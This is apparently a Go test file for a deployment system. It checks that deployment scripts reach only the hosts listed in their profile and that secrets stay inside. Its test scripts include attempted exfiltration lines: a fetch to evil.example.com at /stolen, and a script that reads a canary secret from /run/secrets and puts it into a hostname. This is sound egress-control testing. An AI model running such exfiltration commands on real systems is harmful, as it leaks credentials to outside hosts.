package main

import (
	"context"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coderflow/coderflow/internal/config"
	"github.com/coderflow/coderflow/internal/deploy"
	"github.com/coderflow/coderflow/internal/forge"
	"github.com/coderflow/coderflow/internal/forge/emulator"
	"github.com/coderflow/coderflow/internal/task"
)

// registry is the one host of a small Internet: every name is at a public address,
// and every address is played by it.
type registry struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
	// dialed are the addresses that were asked for.
	dialed []string
}

func newRegistry(t *testing.T) *registry {
	t.Helper()
	r := &registry{}
	r.Server = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		r.mu.Lock()
		r.seen = append(r.seen, q.TLS.ServerName+q.URL.Path+" "+q.Header.Get("Authorization"))
		r.mu.Unlock()
		_, _ = io.WriteString(w, "hello from "+q.TLS.ServerName+"\n")
	}))
	t.Cleanup(r.Close)
	return r
}

// LookupNetIP implements egress.Resolver.
func (*registry) LookupNetIP(context.Context, string, string) ([]netip.Addr, error) {
	return []netip.Addr{netip.MustParseAddr("93.184.216.34")}, nil
}

func (r *registry) dial(ctx context.Context, to netip.AddrPort) (net.Conn, error) {
	r.mu.Lock()
	r.dialed = append(r.dialed, to.String())
	r.mu.Unlock()
	return (&net.Dialer{}).DialContext(ctx, "tcp", r.Listener.Addr().String())
}

// serveHere runs the server in this process, with the registry as all that there is
// outside, until the returned function ends it.
func (w *world) serveHere(r *registry) (stop func()) {
	w.t.Helper()
	cfg, err := config.Load(w.in.config, os.Environ())
	if err != nil {
		w.t.Fatal(err)
	}
	cfg.Sandbox.Guest = binary + "-guest"
	ctx, cancel := context.WithCancel(context.Background())
	ready, done := make(chan string, 1), make(chan error, 1)
	go func() {
		done <- serveTo(ctx, cfg, slog.New(slog.NewTextHandler(w.log, nil)), outside{r, r.dial}, func(a string) { ready <- a })
	}()
	stop = sync.OnceFunc(func() {
		cancel()
		if err := <-done; err != nil {
			w.t.Errorf("the server ended: %v", err)
		}
	})
	w.t.Cleanup(stop)
	select {
	case <-ready:
	case err := <-done:
		w.t.Fatalf("the server did not start: %v\n%s", err, w.log)
	}
	return stop
}

// fetch is shell text that asks a host through the proxy for a path.
const fetch = `
fetch() { # HOST PATH
	printf 'GET %s HTTP/1.0\r\nHost: %s\r\nAuthorization: %s\r\n\r\n' "$2" "$1" "${3-}" |
		openssl s_client -quiet -proxy "${HTTPS_PROXY#http://}" -connect "$1:443" -servername "$1" 2>/dev/null | grep -a hello || echo no answer
}
`

func withNetwork(network, script string) worldOption {
	return func(_ *emulator.Options, s *settings) {
		s.Agent, s.Network, s.Script = quickAgent, network, fetch+script
		s.Extra = "reconcile: {interval: 30s}\n"
	}
}

// runOfProfile approves with a deployment and waits for the run's end.
func (w *world) runOfProfile() (task.Task, deploy.Run) {
	w.t.Helper()
	issue := w.run(maria)
	proposed := w.taskOf(issue.Number, task.Proposed)
	w.approve(tom, proposed.PullRequest, "ship it\n\n/coderflow deploy publish")
	done := w.taskOf(issue.Number, task.Done)
	runs, err := w.db().DeployRuns(w.t.Context(), done.ID)
	if err != nil || len(runs) != 1 {
		w.t.Fatalf("deployments: %+v, %v", runs, err)
	}
	return done, runs[0]
}

// A deployment reaches the hosts of its profile, with its own secrets, and no
// other, no model and no address; what it did and tried is in its record.
func TestThreat12ADeploymentReachesTheHostsOfItsProfileOnly(t *testing.T) {
	t.Parallel()
	outsideWorld := newRegistry(t)
	w := newStoppedWorld(t, withNetwork(`{hosts: [registry.example.com, "*.mirror.example.com"]}`, `
		fetch registry.example.com /v2/ "$(cat /run/secrets/TOKEN)"
		fetch a.mirror.example.com /x
		fetch evil.example.com /stolen
		fetch mirror.example.com /not-below
		printf 'POST /v1/messages HTTP/1.1\r\nHost: m\r\nContent-Length: 0\r\nConnection: close\r\n\r\n' | openssl s_client -connect 127.0.0.1:8787 >/dev/null 2>&1 || true
	`), func(_ *emulator.Options, s *settings) { s.Secrets = "TOKEN" })
	w.serveHere(outsideWorld)
	w.setSecret("staging/TOKEN", "deploy", "Bearer registry-token-1")
	done, run := w.runOfProfile()
	said := w.output("deploy/" + run.ID)
	if run.State != deploy.Succeeded || !strings.Contains(said, "hello from registry.example.com") || !strings.Contains(said, "hello from a.mirror.example.com") || strings.Contains(said, "hello from evil") {
		t.Errorf("%s %s:\n%s", run.State, run.Detail, said)
	}
	outsideWorld.mu.Lock()
	seen := strings.Join(outsideWorld.seen, "\n")
	outsideWorld.mu.Unlock()
	if seen != "registry.example.com/v2/ Bearer registry-token-1\na.mirror.example.com/x " {
		t.Errorf("the outside saw\n%s", seen)
	}
	reach := run.Reach
	if len(reach.Used) != 2 || reach.Used[0].Connections != 1 || reach.Used[0].Bytes == 0 || len(reach.Refused) < 2 {
		t.Errorf("the record of the run: %+v", reach)
	}
	shown, stderr, code := w.command("", "deployments", "show", run.ID)
	for _, part := range []string{"registry.example.com:443, 1 times", "CONNECT evil.example.com:443, 1 times: the environment does not list this host", "CONNECT mirror.example.com:443", "*.mirror.example.com"} {
		if !strings.Contains(shown, part) {
			t.Errorf("deployments show (%d) does not say %q:\n%s%s", code, part, shown, stderr)
		}
	}
	w.waitSaid(forge.IssueTopic(done.Issue), "evil.example.com")
	w.auditTells(done.ID, "gateway.connect")
	if uses, err := w.db().HostUses(t.Context(), done.ID); err != nil || len(uses) != 0 {
		t.Errorf("the task is said to have reached %v, %v", uses, err)
	}
	if dirs, err := filepath.Glob(filepath.Join(w.dir, "data", "gateway", "*")); err != nil || len(dirs) != 0 {
		t.Errorf("the way is open after the end: %q, %v", dirs, err)
	}
}

// Without network there is nothing to connect to.
func TestThreat12ADeploymentWithoutNetworkHasNothingToConnectTo(t *testing.T) {
	t.Parallel()
	for _, network := range []string{"", "none"} {
		outsideWorld := newRegistry(t)
		w := newStoppedWorld(t, withNetwork(network, `
			echo "proxy: ${HTTPS_PROXY-none}"; ls /run/coderflow 2>&1
			HTTPS_PROXY=http://127.0.0.1:8787; fetch registry.example.com /v2/; ls /sys/class/net
		`))
		w.serveHere(outsideWorld)
		_, run := w.runOfProfile()
		said := w.output("deploy/" + run.ID)
		if !strings.HasPrefix(said, "proxy: none\n") || strings.Contains(said, "gateway.sock") || strings.Contains(said, "hello from") || !strings.HasSuffix(said, "\nlo\n") || len(outsideWorld.dialed) != 0 || len(run.Reach.Hosts) != 0 {
			t.Errorf("network %q: %+v\n%s", network, run.Reach, said)
		}
	}
}

// The way of a run is open again after a restart of the server, and a host that an
// administrator takes away meanwhile is gone, one that they add not there.
func TestFault29TheWayOfADeploymentOutlivesAServer(t *testing.T) {
	t.Parallel()
	outsideWorld := newRegistry(t)
	w := newStoppedWorld(t, withNetwork(`{hosts: [registry.example.com, other.example.com]}`, `
		fetch registry.example.com /first
		until [ -e /run/coderflow/away ]; do sleep .1; done
		fetch registry.example.com /second
		until fetch other.example.com /gone | grep -q "no answer"; do sleep .3; done
		fetch added.example.com /never
		fetch registry.example.com /third
	`))
	stop := w.serveHere(outsideWorld)
	issue := w.run(maria)
	proposed := w.taskOf(issue.Number, task.Proposed)
	w.approve(tom, proposed.PullRequest, "ship it\n\n/coderflow deploy publish")
	sees := func(what string) {
		t.Helper()
		if err := until(t.Context(), longEnough, what, func(context.Context) (bool, error) {
			outsideWorld.mu.Lock()
			defer outsideWorld.mu.Unlock()
			return strings.Contains(strings.Join(outsideWorld.seen, "\n"), what), nil
		}); err != nil {
			t.Fatalf("%v\n%s", err, w.log)
		}
	}
	sees("/first")
	stop()
	dirs, err := filepath.Glob(filepath.Join(w.dir, "data", "gateway", "*"))
	if err != nil || len(dirs) != 1 {
		t.Fatalf("the gateway's directories: %q, %v", dirs, err)
	}
	if err := os.WriteFile(filepath.Join(dirs[0], "away"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	w.serveHere(outsideWorld)
	sees("/second")
	file := filepath.Join(w.dir, "manifests", "demo.yaml")
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	changed := strings.Replace(string(text), "other.example.com]", "added.example.com]", 1)
	if err := os.WriteFile(file, []byte(changed), 0o600); err != nil || changed == string(text) {
		t.Fatalf("%v\n%s", err, text)
	}
	if out, said, code := w.command("", "apply", "-f", file); code != 0 {
		t.Fatalf("apply: %s%s", out, said)
	}
	sees("/third")
	done := w.taskOf(issue.Number, task.Done)
	runs, err := w.db().DeployRuns(t.Context(), done.ID)
	if err != nil || len(runs) != 1 || runs[0].State != deploy.Succeeded {
		t.Fatalf("%+v, %v", runs, err)
	}
	outsideWorld.mu.Lock()
	defer outsideWorld.mu.Unlock()
	if seen := strings.Join(outsideWorld.seen, "\n"); strings.Contains(seen, "/never") {
		t.Errorf("a host that was added after the approval was reached:\n%s", seen)
	}
}

// Who adds a host to a profile changes what was approved: nothing runs.
func TestThreat52AnArmedDeploymentWithOtherHostsIsWithheld(t *testing.T) {
	t.Parallel()
	approved := deploy.Profile{Name: "p", Environment: "staging", Script: "true", Timeout: time.Minute}
	with := approved
	with.Network.Hosts = []string{"registry.example.com"}
	other := approved
	other.Network.Hosts = []string{"evil.example.com"}
	if approved.Digest() == with.Digest() || with.Digest() == other.Digest() {
		t.Error("the hosts are no part of the digest")
	}
	if again := with; again.Digest() != with.Digest() {
		t.Error("the digest is not one")
	}
}

// A request that has a canary stops the deployment, and nothing of it goes out.
func TestThreat53ACanaryOnItsWayOutStopsTheDeployment(t *testing.T) {
	t.Parallel()
	outsideWorld := newRegistry(t)
	w := newStoppedWorld(t, withNetwork(`{hosts: ["*.example.com"]}`, `
		fetch "$(tr A-Z a-z < /run/secrets/`+decoyName+`).example.com" /stolen > /dev/null
		sleep 600
	`), func(_ *emulator.Options, s *settings) { s.Secrets = decoyName })
	w.serveHere(outsideWorld)
	w.plant("deploy")
	done, run := w.runOfProfile()
	if run.State != deploy.Failed || len(outsideWorld.seen) != 0 {
		t.Errorf("%s, the outside saw %q", run.State, outsideWorld.seen)
	}
	w.told(done.Issue, done, run.Detail, "request")
}
